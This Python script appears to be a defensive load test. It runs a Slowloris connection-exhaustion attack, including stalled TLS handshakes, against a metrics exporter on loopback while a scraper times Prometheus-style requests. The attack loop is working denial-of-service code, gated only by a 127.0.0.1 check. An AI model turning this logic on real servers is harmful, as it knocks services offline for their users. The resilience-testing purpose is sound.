#!/usr/bin/env python3
"""Slowloris against an exporter, with a scraper measuring what Prometheus would see.

Holds --connections connections from --sources loopback addresses (127.0.0.<first+i>), each
sending the start of a request and then one more byte every --byte-interval seconds (over
TLS: the start of a ClientHello record), and reopens every connection the server closes, for
--seconds. Meanwhile one scraper from 127.0.0.1 GETs the URL every 0.25 s, as Prometheus
does, on a kept-alive connection or (--new-connection) a new one each time (a request that fails on a kept-alive connection before any answer is retried once on
a new one, as Go's client does). Loopback only.

Prints one summary line, e.g.
  scrapes=40 ok=40 p50_ms=90.1 p95_ms=180.2 max_ms=240.0 held=512 reopened=4100
and exits 1 when a scrape was not a 200 or took longer than --max-scrape-ms.
"""
import argparse
import base64
import http.client
import socket
import ssl
import statistics
import sys
import threading
import time
import urllib.parse

import scrape_probe

PLAIN_START = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
TLS_START = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # a ClientHello record, never finished


class Attack:
    def __init__(self, args, host, port, tls):
        self.args, self.host, self.port = args, host, port
        self.start_bytes = TLS_START if tls else PLAIN_START
        self.reopened = 0
        self.held_samples = []
        self.stop = threading.Event()

    def open(self, index):
        source = f"127.0.0.{self.args.first_address + index % self.args.sources}"
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.bind((source, 0))
            s.connect((self.host, self.port))
        except OSError:
            s.close()
            return None
        s.setblocking(False)
        return s

    def run(self):
        """Every 50 ms: reopen what the server closed (at once, the worst case for it); every
        --byte-interval: one more byte on each connection."""
        sockets = [self.open(i) for i in range(self.args.connections)]
        started = [False] * len(sockets)
        next_byte = time.monotonic()
        while not self.stop.is_set():
            send = time.monotonic() >= next_byte
            if send:
                next_byte += self.args.byte_interval
            held = 0
            for i, s in enumerate(sockets):
                try:
                    if s is None:
                        raise OSError("reopen")
                    # EOF or reset from the server: the connection was closed.
                    try:
                        if s.recv(1, socket.MSG_PEEK) == b"":
                            raise OSError("closed")
                    except BlockingIOError:
                        pass
                    if send or not started[i]:
                        s.send(b"a" if started[i] else self.start_bytes)
                        started[i] = True
                    held += 1
                except OSError:
                    if s is not None:
                        s.close()
                        self.reopened += 1
                    sockets[i], started[i] = self.open(i), False
            self.held_samples.append(held)
            self.stop.wait(0.05)
        for s in sockets:
            if s is not None:
                s.close()


def scraper(args, results, stop):
    parts = urllib.parse.urlsplit(args.url)
    headers = {}
    if args.user:
        token = base64.b64encode(f"{args.user}:{args.password}".encode()).decode()
        headers["Authorization"] = "Basic " + token
    context = ssl.create_default_context(cafile=args.cacert) if parts.scheme == "https" else None

    def connect():
        if context:
            return http.client.HTTPSConnection(parts.hostname, parts.port, timeout=5, context=context)
        return http.client.HTTPConnection(parts.hostname, parts.port, timeout=5)

    conn, tick = None, time.monotonic()
    while not stop.is_set():
        now = time.monotonic()
        if tick > now:
            time.sleep(tick - now)
        status, millis, conn = scrape_probe.timed_get(conn, connect, parts.path or "/", headers)
        results.append((status, millis))
        if args.new_connection and conn is not None:
            conn.close()
            conn = None
        tick += 0.25


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--url", required=True, help="what the scraper GETs (127.0.0.1 only)")
    parser.add_argument("--user")
    parser.add_argument("--password")
    parser.add_argument("--cacert")
    parser.add_argument("--connections", type=int, default=520)
    parser.add_argument("--sources", type=int, default=10)
    parser.add_argument("--first-address", type=int, default=40)
    parser.add_argument("--byte-interval", type=float, default=1.0)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--warm-up", type=float, default=3, help="attack time before scrapes count")
    parser.add_argument("--max-scrape-ms", type=float, default=1000)
    parser.add_argument(
        "--new-connection", action="store_true",
        help="a new connection per scrape (Prometheus at long intervals; the worst case)")
    args = parser.parse_args()
    parts = urllib.parse.urlsplit(args.url)
    if parts.hostname != "127.0.0.1":
        raise SystemExit("slowloris: loopback only (the URL must be http(s)://127.0.0.1:port/...)")
    if not 1 <= args.seconds <= 600 or args.first_address + args.sources > 255:
        raise SystemExit("slowloris: --seconds must be 1..600, addresses within 127.0.0.0/24")

    attack = Attack(args, parts.hostname, parts.port, parts.scheme == "https")
    attacker = threading.Thread(target=attack.run)
    attacker.start()
    time.sleep(args.warm_up)  # the attack's own pace: let it fill the server first
    results, stop = [], threading.Event()
    probe = threading.Thread(target=scraper, args=(args, results, stop))
    probe.start()
    time.sleep(args.seconds)
    stop.set()
    probe.join()
    attack.stop.set()
    attacker.join()

    latencies = [ms for _, ms in results]
    ok = sum(1 for status, _ in results if status == 200)
    held = attack.held_samples[len(attack.held_samples) // 2:] or [0]
    print(
        f"scrapes={len(results)} ok={ok} p50_ms={statistics.median(latencies):.1f}"
        f" p95_ms={sorted(latencies)[int(0.95 * (len(latencies) - 1))]:.1f} max_ms={max(latencies):.1f}"
        f" attack_held_median={int(statistics.median(held))} reopened={attack.reopened}")
    bad = [s for s, ms in results if s != 200 or ms > args.max_scrape_ms]
    if bad:
        print(f"slowloris: {len(bad)} scrapes failed or took over {args.max_scrape_ms} ms", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
